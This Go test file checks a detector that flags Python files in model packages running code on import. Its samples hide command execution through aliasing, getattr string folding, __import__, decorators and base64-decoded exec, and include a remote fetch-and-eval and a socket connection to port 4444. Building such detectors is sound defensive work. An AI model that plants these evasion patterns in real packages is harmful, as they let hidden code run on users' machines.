package file

import (
	"testing"

	"github.com/modelwarden/warden"
	"github.com/modelwarden/warden/detect/detecttest"
	"github.com/modelwarden/warden/internal/format"
)

func TestPythonSource(t *testing.T) {
	bad := map[string]string{
		"command_on_import":    "import os\nos.system('id')\n",
		"renamed":              "from subprocess import run as r\nr(['id'])\n",
		"alias_of_module":      "import subprocess as s\nx = s.check_output('id', shell=True)\n",
		"dunder_import":        "__import__('os').system('id')\n",
		"importlib":            "import importlib\nimportlib.import_module('os').system('id')\n",
		"getattr_folded":       "import os\ngetattr(os, 'sys' + 'tem')('id')\n",
		"called_function":      "import os\ndef setup():\n    os.system('id')\nsetup()\n",
		"called_through_two":   "import os\ndef a():\n    os.system('id')\ndef b():\n    a()\nb()\n",
		"class_that_is_built":  "import os\nclass A:\n    def __init__(self):\n        os.system('id')\nA()\n",
		"class_body":           "import os\nclass A:\n    x = os.popen('id').read()\n",
		"decorator":            "import os\n@os.system('id')\ndef f(): pass\n",
		"unpacked_in_function": "import base64\ndef f():\n    exec(base64.b64decode('aWQ='))\n",
		"fetched_in_function":  "import urllib.request as u\ndef f():\n    eval(u.urlopen('http://203.0.113.9/x').read())\n",
		"python_two":           "exec 'import os'\n",
		"connects_on_import":   "import socket\ns = socket.create_connection(('203.0.113.9', 4444))\n",
		"function_only":        "import os\ndef f(x):\n    return os.system(x)\n",
		"main_guard":           "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['true'])\n",
		"in_try":               "try:\n    import os\n    os.system('id')\nexcept Exception:\n    pass\n",
	}
	clean := map[string]string{
		"model": "import json, os, re\nimport torch\nfrom torch import nn\n\nclass M(nn.Module):\n    def __init__(self, c):\n        super().__init__()\n        self.p = re.compile('x')\n" +
			"    def forward(self, x):\n        self.eval()\n        return torch.where(x > 0, x, x)\n\ndef load(p):\n    with open(os.path.join(p, 'config.json')) as f:\n        return json.load(f)\n",
		"own_function_called_system": "def system(x):\n    return x\nsystem('id')\n",
		"own_method_called_exec":     "class A:\n    def exec(self, x):\n        return x\nA().exec('x')\n",
		"words_in_a_string":          "HELP = \"run os.system('id')\"\n",
		"download_in_function":       "import requests\ndef get(u):\n    return requests.get(u).content\n",
	}
	var cases []detecttest.Case[*format.File]
	for name, text := range bad {
		cases = append(cases, detecttest.Case[*format.File]{Name: name, Subject: open(t, "modeling.py", []byte(text)), Want: []warden.RuleID{ruleSource}})
	}
	for name, text := range clean {
		cases = append(cases, detecttest.Case[*format.File]{Name: name, Subject: open(t, "modeling.py", []byte(text))})
	}
	detecttest.Accept(t, pythonSource, cases)
}
